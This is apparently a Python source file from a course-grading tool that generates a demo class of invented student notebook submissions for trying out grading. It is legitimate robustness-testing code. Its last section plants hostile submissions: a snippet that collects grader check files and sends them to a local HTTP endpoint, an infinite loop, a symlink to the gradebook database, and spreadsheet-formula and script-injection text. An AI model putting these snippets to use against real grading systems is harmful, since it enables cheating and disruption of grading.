"""A class of invented submissions, to try grading before your own class submits."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np

from mfteach.console import UsageError
from mfteach.grading.assignments.question_files import Assignment
from mfteach.grading.assignments.release import write_variants
from mfteach.grading.assignments.variants import Posed, draw
from mfteach.grading.settings import Course

DUE = datetime(2027, 2, 1, 23, 59, tzinfo=UTC)
MARK = ".mfteach-demo-class"
"""The file that marks a folder as replaceable."""
_SETTINGS = """# A demo class. Its secrets are beside it and are deleted with it.
secrets = "secrets.toml"

[due]
"{assignment}" = {due:%Y-%m-%dT%H:%M:%SZ}

[late]
per_day = 0.1
"""
# The same numbers every time: a demo class has no secret worth stealing.
_SECRETS = 'secret = "{0}"\nseed = "{0}"\n'.format("00" * 32)
_PARTS = ("questions", "checks", "source", "release", "nbgrader_config.py", "STUDENTS.md")
_TEXTS = (
    "I sketched it first. My example is in the picture that I drew, and it shows why.",
    "It follows from the rule in the lesson, applied twice, and then I plugged in the numbers.",
    "Not in general: there is an example in the notebook where it fails.",
)


def make_class(course: Path, to: Path, assignment: str, n_students: int) -> None:
    """Put a course with invented submissions into a folder.

    Most students know something: each answer is right, or one of the question's slips, more often
    one of the first. The last few do what happens in every class: nothing handed in, an empty
    notebook, a copy of a neighbour's, a broken file, a file under another name, code that hangs or
    snoops, a link to a file that is not theirs.

    Parameters
    ----------
    course : Path
        Where the questions come from.
    to : Path
        Replaced, if it is an earlier demo class or empty.
    assignment : str
    n_students : int

    Raises
    ------
    UsageError
        If there is something else in ``to``.
    """
    _empty(to)
    for part in _PARTS:
        if (course / part).is_dir():
            shutil.copytree(course / part, to / part, ignore=shutil.ignore_patterns("__pycache__"))
        elif (course / part).is_file():
            shutil.copy(course / part, to / part)
    (to / "course.toml").write_text(
        _SETTINGS.format(assignment=assignment, due=DUE), encoding="utf-8"
    )
    (to / "secrets.toml").write_text(_SECRETS, encoding="utf-8")
    (to / "secrets.toml").chmod(0o600)
    students = [f"s{number:03}" for number in range(1, n_students + 1)]
    (to / "students.csv").write_text("\n".join(["id", *students]) + "\n", encoding="utf-8")
    _submit_all(to, Assignment.load(to, assignment), students)


def _empty(to: Path) -> None:
    if to.is_dir() and any(to.iterdir()) and not (to / MARK).is_file():
        raise UsageError(f"{to} is not a demo class, so it is kept: choose another with --to")
    shutil.rmtree(to, ignore_errors=True)
    to.mkdir(parents=True)
    (to / MARK).touch()


def _submit_all(course: Path, assignment: Assignment, students: list[str]) -> None:
    seed = Course.load(course).secrets().seed
    notebooks = dict(zip(students, write_variants(course, assignment, students, seed), strict=True))
    rng = np.random.default_rng(0)
    for student, given in notebooks.items():
        answers = _answers(draw(assignment, seed, student).answers, rng)
        notebook = answered(json.loads(given.read_text(encoding="utf-8")), answers)
        _hand_in(course, student, assignment.name, json.dumps(notebook, indent=1))
        late = timedelta(hours=float(rng.exponential(20))) if rng.random() < 0.1 else -timedelta(1)
        _stamp(course, student, assignment.name, DUE + late)
    _happenings(course, assignment, students)


def _answers(questions: Mapping[str, Posed], rng: np.random.Generator) -> dict[str, Any]:
    """The answers of one student; the more able, the fewer slips."""
    ability = rng.beta(4, 2)
    return {name: _answer(posed, ability, rng) for name, posed in questions.items()}


def _answer(posed: Posed, ability: float, rng: np.random.Generator) -> Any:
    if posed.question.kind == "text":
        return _TEXTS[rng.integers(len(_TEXTS))]
    if rng.random() < ability:
        return posed.right
    if rng.random() < 0.15:
        return None
    wrong = [answer for answer, _ in posed.wrong]
    share = 0.5 ** np.arange(len(wrong))
    return wrong[rng.choice(len(wrong), p=share / share.sum())]


def answered(notebook: dict[str, Any], answers: Mapping[str, Any]) -> dict[str, Any]:
    """Return a released notebook with answers typed into it.

    Parameters
    ----------
    notebook : dict
        Changed in place.
    answers : mapping
        By question: a letter, a formula, a number or list, the source code of a function, a text.
        None leaves the cell as it is.
    """
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        answer = answers.get(about.get("grade_id"))
        if answer is None or not about.get("solution"):
            continue
        is_source = cell["cell_type"] == "markdown" or str(answer).startswith("def ")
        cell["source"] = answer if is_source else f"{about['grade_id']} = {json.dumps(answer)}"
    return notebook


# What happens in every class ---------------------------------------------------------------------

_HANGS = "while True:\n    pass"
_MARKUP = "=HYPERLINK(\"http://127.0.0.1\")\n\n<script>alert('a text is only a text')</script>"
_LOOKS_AROUND = """import pathlib
import urllib.request

found = [p.read_text() for p in pathlib.Path("/").rglob("checks/*.py")]
urllib.request.urlopen("http://127.0.0.1:8000", data=str(found).encode())"""


def _happenings(course: Path, assignment: Assignment, students: list[str]) -> None:
    """Give the last students something other than answers; a small class has fewer of them."""
    name = assignment.name
    neighbour = _file(course, students[0], name).read_bytes()
    happenings: list[Callable[[Path], object]] = [
        lambda file: file.write_bytes(neighbour),
        lambda file: file.write_bytes(neighbour[: len(neighbour) // 2]),
        lambda file: file.write_bytes(_given(course, file)),
        lambda file: file.write_text(with_cell(file, _HANGS), encoding="utf-8"),
        lambda file: file.write_text(with_cell(file, _LOOKS_AROUND), encoding="utf-8"),
        lambda file: shutil.rmtree(file.parents[1]),
        lambda file: file.rename(file.with_name("Untitled.ipynb")),
        lambda file: _link(file, course / "gradebook.db"),
        lambda file: file.write_text(_with_texts(file, assignment, _MARKUP), encoding="utf-8"),
    ]
    for happens, student in zip(happenings, reversed(students[len(students) // 2 :]), strict=False):
        happens(_file(course, student, name))


def _given(course: Path, file: Path) -> bytes:
    student = file.parents[1].name
    return Path(course, "variants", student, file.stem, file.name).read_bytes()


def with_cell(file: Path, source: str) -> str:
    """Return a notebook with one more code cell before the last."""
    notebook = json.loads(file.read_text(encoding="utf-8"))
    cell = {"cell_type": "code", "id": "mine", "metadata": {}, "outputs": [], "source": source}
    notebook["cells"].insert(-1, {**cell, "execution_count": None})
    return json.dumps(notebook, indent=1)


def _with_texts(file: Path, assignment: Assignment, text: str) -> str:
    texts = {question.name: text for question in assignment.questions if question.kind == "text"}
    return json.dumps(answered(json.loads(file.read_text(encoding="utf-8")), texts), indent=1)


def _link(file: Path, to: Path) -> None:
    file.unlink()
    file.symlink_to(to.resolve())


def _file(course: Path, student: str, assignment: str) -> Path:
    return course / "submitted" / student / assignment / f"{assignment}.ipynb"


def _hand_in(course: Path, student: str, assignment: str, text: str) -> None:
    file = _file(course, student, assignment)
    file.parent.mkdir(parents=True)
    file.write_text(text, encoding="utf-8")


def _stamp(course: Path, student: str, assignment: str, when: datetime) -> None:
    stamp = _file(course, student, assignment).with_name("timestamp.txt")
    stamp.write_text(f"{when:%Y-%m-%d %H:%M:%S} UTC", encoding="utf-8")
